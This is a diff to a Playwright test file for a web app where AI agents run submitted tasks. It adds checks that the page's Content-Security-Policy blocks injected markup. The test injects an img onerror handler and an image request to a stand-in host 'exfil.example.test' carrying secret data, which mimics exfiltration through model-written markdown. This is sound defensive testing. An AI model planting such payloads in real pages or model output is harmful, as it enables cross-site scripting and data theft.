@@ -37,8 +37,45 @@ test.describe("a team member runs a task in the browser", () => {
     await expect(page).toHaveURL(/\/tasks$/);
   });
 
-  test("sign in, submit a task, watch three agents, read the result, sign out", async ({ page }) => {
+  test("the page's policy stops injected markup: no inline handler runs, no image loads from another host", async ({ page }) => {
+    const violations: string[] = [];
+    page.on("console", (message) => {
+      if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
+    });
+    const sent: string[] = [];
+    page.on("requestfinished", (request) => sent.push(request.url()));
+    const blocked: string[] = [];
+    page.on("requestfailed", (request) => blocked.push(`${request.url()} ${request.failure()?.errorText}`));
     await page.goto("/signin");
+    // What a sanitiser might miss in model-written markdown, injected straight into the page.
+    await page.evaluate(() => {
+      document.body.insertAdjacentHTML("beforeend", '<img src="/missing.png" onerror="window.__handlerRan = true">');
+      document.body.insertAdjacentHTML("beforeend", '<img src="http://exfil.example.test/pixel.png?task=secret">');
+    });
+    await expect.poll(() => violations.length).toBeGreaterThanOrEqual(2);
+    expect(await page.evaluate(() => (window as unknown as { __handlerRan?: boolean }).__handlerRan)).toBeUndefined();
+    // The browser refused the image itself: the request never left.
+    expect(sent.some((url) => url.includes("exfil.example.test"))).toBe(false);
+    await expect.poll(() => blocked.find((entry) => entry.includes("exfil.example.test"))).toMatch(/ csp$|ERR_BLOCKED_BY_CSP/i);
+  });
+
+  test("sign in, submit a task, watch three agents, read the result, sign out", async ({ page }) => {
+    // Every page runs under the Content-Security-Policy, and nothing on the way trips it.
+    const violations: string[] = [];
+    page.on("console", (message) => {
+      if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
+    });
+    const signInPage = await page.goto("/signin");
+    const policy = signInPage!.headers()["content-security-policy"] ?? "";
+    const nonce = /'nonce-([^']+)'/.exec(policy)?.[1];
+    expect(nonce, "a script nonce in the policy").toBeDefined();
+    expect(policy).toContain("img-src 'self' data: blob:");
+    expect(policy).toContain("frame-ancestors 'none'");
+    // Next put that nonce on its own scripts; a second request gets a different one.
+    expect(await page.locator(`script[nonce]`).count()).toBeGreaterThan(0);
+    expect(await page.locator("script").evaluateAll((scripts) => scripts.every((script) => (script as HTMLScriptElement).nonce !== ""))).toBe(true);
+    expect((await page.request.get("/signin")).headers()["content-security-policy"]).not.toContain(nonce!);
+
     await page.getByLabel("Email").fill(E2E_ADMIN.email);
     await page.getByLabel("Password").fill(E2E_ADMIN.password);
     await page.getByRole("button", { name: "Sign in" }).click();
@@ -77,5 +114,6 @@ test.describe("a team member runs a task in the browser", () => {
     await expect(page).toHaveURL(/\/signin/);
     await page.goto("/tasks");
     await expect(page).toHaveURL(/\/signin/);
+    expect(violations).toEqual([]);
   });
 });
